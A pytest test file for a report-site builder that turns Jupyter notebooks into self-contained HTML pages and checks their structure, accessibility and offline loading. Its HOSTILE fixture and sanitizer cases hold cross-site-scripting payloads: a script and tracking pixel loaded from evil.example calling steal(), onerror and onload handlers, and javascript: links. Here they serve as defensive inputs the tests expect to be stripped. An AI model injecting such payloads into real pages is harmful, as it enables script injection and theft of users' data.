"""The report's pages: whole, readable everywhere, and asking nobody for anything."""

import base64
import json
import re
import shutil
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest

from consensus_lab.node import ParameterError
from consensus_lab.report import site, style
from consensus_lab.report.notebook_html import highlighted, markdown, read_notebook
from consensus_lab.report.page import adapt_svg
from consensus_lab.report.passive import passive
from tests.report.examples import run
from tests.report.test_style import example
from tests.report.test_table import TABLE

VOID = ("br", "meta", "img", "link", "hr", "input", "col", "wbr", "area")


class Reader(HTMLParser):
    """Follows a page: nesting, identities, what is loaded, what is linked, pictures' texts."""

    def __init__(self):
        super().__init__()
        self.open, self.ids, self.loaded, self.links, self.alts = [], [], [], [], []
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        self.tags.append(tag)
        if tag not in VOID:
            self.open.append(tag)
        self.ids += [values["id"]] if "id" in values else []
        loading = ("src", "srcset", "data", "poster")
        self.loaded += [values[name] for name in loading if name in values]
        if tag == "a":
            self.links.append(values.get("href"))
        elif tag == "link":
            self.loaded.append(values.get("href"))
        if tag == "img":
            self.alts.append(values.get("alt"))
        if tag == "svg":
            self.alts.append(values.get("aria-label"))
        assert not [name for name in values if name.startswith("on")], f"{tag} handles an event"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.open.pop()

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text.append(data)


def read(path):
    reader = Reader()
    html = path.read_text(encoding="utf-8")
    reader.feed(html)
    assert reader.open == []
    return html, reader


def figure_output():
    images, metadata = example()._repr_mimebundle_()
    images["image/png"] = base64.b64encode(images["image/png"]).decode()
    return {"output_type": "execute_result", "data": images, "metadata": metadata}


HOSTILE = (
    '<table border="1" class="dataframe"><tr><td>5 &lt; 6</td></tr></table>'
    '<script src="http://evil.example/x.js">steal()</script>'
    '<img src="http://evil.example/pixel.png" onerror="steal()">'
    '<link rel="stylesheet" href="http://evil.example/x.css">'
    '<p style="background: url(http://evil.example/y)">shown</p>'
    '<a href="javascript:steal()">no</a>'
)


def notebook(path, title, *cells):
    made = [{"cell_type": "markdown", "metadata": {}, "source": f"# {title}\n\nWhy *so*?\n"}]
    for source, outputs in cells:
        made.append({"cell_type": "code", "metadata": {}, "source": source, "outputs": outputs})
    made.append({"cell_type": "markdown", "metadata": {}, "source": [
        "## Break it\n\nSee [the other](b.ipynb#break-it), and $x^2$.\n\n",
        "<details><summary>Solutions</summary>\n\n1. **Yes.**\n\n</details>\n",
    ]})  # fmt: skip
    path.write_text(json.dumps({"cells": made, "nbformat": 4, "metadata": {}}), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    tmp_path = tmp_path_factory.mktemp("report")
    said = "50 %\r100 %\n\x1b[31mred\x1b[0m <b>"
    stream = {"output_type": "stream", "name": "stdout", "text": said}
    html = {"output_type": "display_data", "data": {"text/html": HOSTILE}, "metadata": {}}
    a = notebook(tmp_path / "a.ipynb", "First", ("x = 1  # one", [stream, html]))
    b = notebook(tmp_path / "b.ipynb", "Second", ("figure", [figure_output(), figure_output()]))
    svg, _ = style.save_figure(example(), tmp_path / "figure")
    (tmp_path / "INDEX.md").write_text("# Mechanisms\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n")
    folder = tmp_path / "site"
    folder.mkdir()
    pages = site.build_site(
        folder, title="Consensus, measured", introduction="Two *systems*.", notebooks=[a, b],
        table=TABLE, pictures=[site.picture(svg, alt="Three lines", caption="Lines")],
        documents=[site.Document("mechanisms", "Mechanisms", tmp_path / "INDEX.md")],
    )  # fmt: skip
    return folder, pages


def test_every_page_is_whole_and_loads_nothing(built):
    _, pages = built
    assert [page.stem for page in pages] == ["index", "a", "b", "mechanisms"]
    for path in pages:
        html, reader = read(path)
        assert all(address.startswith("data:image/") for address in reader.loaded)
        assert not {"script", "iframe", "object", "link"} & set(reader.tags)
        assert "evil.example" not in html
        assert "@import" not in html
        assert not re.search(r"url\((?!#)", html)
        assert reader.tags.count("h1") == 1
        assert len(reader.ids) == len(set(reader.ids)), path


def test_every_picture_has_an_alternative_text(built):
    _, pages = built
    alts = [alt for path in pages for alt in read(path)[1].alts]
    assert len(alts) >= 3
    assert all(alts)
    assert "Three lines" in alts
    assert any(alt.startswith("Three lines rise and fall.") for alt in alts)


def test_links_between_pages_lead_somewhere(built):
    folder, pages = built
    ids = {path.name: set(read(path)[1].ids) for path in pages}
    for path in pages:
        for link in read(path)[1].links:
            if link is None or link.startswith("http"):
                continue
            name, _, anchor = link.partition("#")
            assert not name or (folder / name).exists() or name.startswith("22"), link
            assert not anchor or anchor in ids[name or path.name], link


def test_pages_are_for_light_and_dark_and_phones_and_printers(built):
    html, _ = read(built[1][0])
    for words in ("prefers-color-scheme: dark", "@media print", "width=device-width"):
        assert words in html
    svg = html[html.index("<svg") : html.index("</svg>")]
    assert "var(--ink)" in svg
    assert style.INK not in svg


def test_outputs_are_shown_as_a_reader_would_see_them(built):
    html, reader = read(built[1][1])
    assert "100 %\nred &lt;b&gt;" in html
    assert "50 %" not in html
    assert "shown" in reader.text
    assert "steal()" not in html
    assert "5 &lt; 6" in html
    assert '<span class="c"># one</span>' in html


def test_the_front_page_lists_the_course_with_its_questions(built):
    html, reader = read(built[1][0])
    assert [link for link in reader.links if link in ("a.html", "b.html")] == ["a.html", "b.html"]
    assert html.count("Why so?") == 2
    assert "Transaction finality" in html


def test_the_same_inputs_give_the_same_bytes(built, tmp_path):
    again = tmp_path / "again"
    again.mkdir()
    source = built[0].parent
    notebooks = [source / "a.ipynb", source / "b.ipynb"]
    first = [p.read_bytes() for p in site.build_site(again, title="T", notebooks=notebooks)]
    second = [p.read_bytes() for p in site.build_site(again, title="T", notebooks=notebooks)]
    assert first == second


def test_a_users_mistakes_are_named(tmp_path):
    empty = notebook(tmp_path / "n.ipynb", "Not run", ("x = 1", []))
    with pytest.raises(ParameterError, match="executed: it has code and no outputs"):
        read_notebook(empty)
    (tmp_path / "bad.ipynb").write_text("{")
    with pytest.raises(ParameterError, match="a readable notebook"):
        read_notebook(tmp_path / "bad.ipynb")
    with pytest.raises(ParameterError, match="picture must be readable"):
        site.picture(tmp_path / "none.svg", alt="x")
    with pytest.raises(ParameterError, match="document must be readable"):
        site.build_site(
            tmp_path, title="T", documents=[site.Document("d", "D", tmp_path / "none.md")]
        )
    run_twice = notebook(tmp_path / "r.ipynb", "Run", ("x", [figure_output()]))
    with pytest.raises(ParameterError, match="the name of one page only"):
        site.build_site(tmp_path, title="T", notebooks=[run_twice, run_twice])


@pytest.mark.parametrize(("hostile", "kept"), [
    ("<script>x</script>a", "a"), ("<SCRIPT >x</SCRIPT >a", "a"),
    ("<svg onload=x()>a</svg>", "<svg>a</svg>"), ("<style>@import 'x'</style>a", "a"),
    ('<img src=" HTTP://x">a', "a"),
    ('<img alt="b" src="data:image/png;base64,A">', '<img alt="b" src="data:image/png;base64,A">'),
    ('<a href="java\nscript:x()">a</a>', "<a>a</a>"), ("<iframe src=x><p>a</p></iframe>b", "b"),
    ('<a href="https://a.b/c">a</a>', '<a href="https://a.b/c">a</a>'),
    ("a < b &amp; c", "a < b &amp; c"),
])  # fmt: skip
def test_what_is_active_is_left_out(hostile, kept):
    assert passive(hostile) == kept


def test_formulas_are_drawn_and_money_is_not_a_formula():
    html = markdown("Risk $e^{-x}$ of $100 or $50.", Path())
    assert html.count("<svg") == 1
    assert 'aria-label="e^{-x}"' in html
    assert "$100 or $50" in html
    assert "<code>\\nosuch{x}</code>" in markdown("$\\nosuch{x}$", Path())


def test_highlighting_keeps_every_character():
    source = 'def f(x: int):\n    """Say <it> & more."""\n    return f"{x!r}" if x else None'
    plain = re.sub(r"</?span[^>]*>", "", highlighted(source))
    assert unescape(plain) == source


def test_two_copies_of_a_figure_share_no_identity():
    svg = style.render(example(), "svg").decode()
    pages = [adapt_svg(svg, alt="a", prefix=prefix) for prefix in ("p-", "q-")]
    ids = [set(re.findall(r'id="([^"]+)"', page)) for page in pages]
    assert ids[0]
    assert not ids[0] & ids[1]
    text = adapt_svg(svg, alt='say "a"', prefix="p-")
    targets = set(re.findall(r'href="#([^"]+)"|url\(#([^)]+)\)', text))
    assert {a or b for a, b in targets} <= ids[0]


@pytest.mark.slow
def test_a_browser_shows_no_page_wider_than_a_phone(built):
    """In a real browser, at 390 points: nothing but inner boxes scrolls sideways."""
    driver_path, browser_path = shutil.which("chromedriver"), shutil.which("chromium")
    if not driver_path or not browser_path:
        pytest.skip("needs chromium and chromedriver (Debian: chromium, chromium-driver)")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = browser_path
    for switch in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"):
        options.add_argument(switch)
    options.add_experimental_option("mobileEmulation", {
        "deviceMetrics": {"width": 390, "height": 844, "pixelRatio": 1.0},
    })  # fmt: skip
    options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
    driver = webdriver.Chrome(options=options, service=Service(driver_path))
    try:
        for path in built[1]:
            driver.get(path.as_uri())
            width = driver.execute_script("return document.documentElement.scrollWidth")
            assert width <= 390, path.name
        asked = [json.loads(entry["message"])["message"] for entry in driver.get_log("performance")]
        addresses = [event["params"]["request"]["url"] for event in asked
                     if event["method"] == "Network.requestWillBeSent"]  # fmt: skip
        assert addresses
        assert all(address.startswith(("file:", "data:")) for address in addresses)
    finally:
        driver.quit()


def test_a_space_time_diagram_describes_itself_on_the_page():
    from consensus_lab.report.space_time import space_time

    figure = space_time(run(), title="Two answers decide")
    svg = adapt_svg(style.render(figure, "svg").decode(), alt=style.describe(figure), prefix="x-")
    assert "7 messages, 1 lost, 1 crash." in svg
